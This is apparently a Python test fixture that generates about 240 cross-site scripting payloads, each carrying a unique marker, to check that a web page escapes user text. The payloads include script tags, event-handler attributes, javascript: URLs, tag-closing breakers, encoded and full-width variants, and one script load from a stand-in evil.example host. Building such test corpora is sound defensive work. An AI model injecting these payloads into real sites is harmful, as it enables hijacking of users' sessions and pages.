"""A corpus of hostile text for the XSS test: each payload carries a unique marker, ``kx<n>y``.

Script tags, attribute breakers (both quote styles), event handlers, javascript:/data: URLs,
SVG/MathML, closing tags of raw-text elements, comment and CDATA breakers, case games,
URL-encoded and entity-encoded forms, and full-width (全角) variants that a careless NFKC
normalisation would turn into markup.
"""

from __future__ import annotations

import unicodedata

TEMPLATES = [
    "<script>alert('{m}')</script>",
    "<script src=//evil.example/{m}.js></script>",
    '"><script>alert("{m}")</script>',
    "'><script>alert('{m}')</script>",
    "<img src=x onerror=alert('{m}')>",
    '<img src="x" onerror="alert(\'{m}\')">',
    "<img src=x onerror=alert('{m}')//",
    "<svg onload=alert('{m}')>",
    "<svg/onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "<body onload=alert('{m}')>",
    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('{m}')</script>\"></iframe>",
    "<object data=\"javascript:alert('{m}')\"></object>",
    "<embed src=\"javascript:alert('{m}')\">",
    "<a href=\"javascript:alert('{m}')\">link</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">{m}</a>",
    "javascript:alert('{m}')",
    "JaVaScRiPt:alert('{m}')",
    " javascript:alert('{m}')",
    "\" onmouseover=\"alert('{m}')",
    "' onfocus='alert(\"{m}\")' autofocus='",
    "\" autofocus onfocus=alert('{m}') x=\"",
    "<input onfocus=alert('{m}') autofocus>",
    "<details open ontoggle=alert('{m}')>",
    "<video><source onerror=\"alert('{m}')\"></video>",
    "<audio src=x onerror=alert('{m}')>",
    "<marquee onstart=alert('{m}')>",
    "<div style=\"background:url(javascript:alert('{m}'))\">{m}</div>",
    "<style>@import 'javascript:alert(\"{m}\")';</style>",
    "<link rel=stylesheet href=javascript:alert('{m}')>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert('{m}')\">",
    "<base href=\"javascript:alert('{m}')//\">",
    "<form action=\"javascript:alert('{m}')\"><button>x</button></form>",
    "<button formaction=\"javascript:alert('{m}')\">x</button>",
    "</textarea><script>alert('{m}')</script>",
    "</title><script>alert('{m}')</script>",
    "</style><script>alert('{m}')</script>",
    "</script><script>alert('{m}')</script>",
    "--><script>alert('{m}')</script>",
    "]]><script>alert('{m}')</script>",
    "<!--<script>alert('{m}')</script>-->",
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    "<<script>script>alert('{m}')<</script>/script>",
    "<ScRiPt>alert('{m}')</sCrIpT>",
    "<SCRIPT>alert('{m}')</SCRIPT>",
    "<x contenteditable onblur=alert('{m}')>x</x>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",
    "<template><script>alert('{m}')</script></template>",
    "&lt;script&gt;alert('{m}')&lt;/script&gt;",
    "&#60;script&#62;alert('{m}')&#60;/script&#62;",
    "%3Cscript%3Ealert('{m}')%3C/script%3E",
    "\\u003cscript\\u003ealert('{m}')\\u003c/script\\u003e",
    "{{{{ '{m}' }}}}{{% now 'Y' %}}",
    "${{alert('{m}')}}",
    "山目<script>alert('{m}')</script>地区",
    "会長「<b onmouseover=alert('{m}')>太字</b>」",
    "<a href=\"https://example.jp/\" onclick=\"alert('{m}')\">市のサイト</a>",
    "<img src=\"https://example.jp/{m}.png\" alt=\"\">",
]

FULL_WIDTH = str.maketrans({"<": "＜", ">": "＞", '"': "＂", "'": "＇", "=": "＝", "/": "／", ":": "："})


def payloads() -> list[str]:
    """Every template with its own marker, then case and full-width variants (about 240)."""
    corpus: list[str] = []

    def add(text: str) -> None:
        corpus.append(text.format(m=f"kx{len(corpus)}y"))

    for template in TEMPLATES:
        add(template)
    for template in TEMPLATES:
        add(template.translate(FULL_WIDTH))
    for template in TEMPLATES:
        if "<" in template:
            add(template.replace("script", "sCrIpT").replace("onerror", "OnErRoR").replace("img", "IMG"))
    for template in TEMPLATES:
        add("地域協働体のお知らせ " + template)
    return corpus


def dangerous_forms(payload: str) -> set[str]:
    """The payload as it would appear if a page emitted it unescaped (as typed, and NFKC-normalised)."""
    forms = {payload, unicodedata.normalize("NFKC", payload)}
    return {form for form in forms if any(c in form for c in "<>\"'&")}
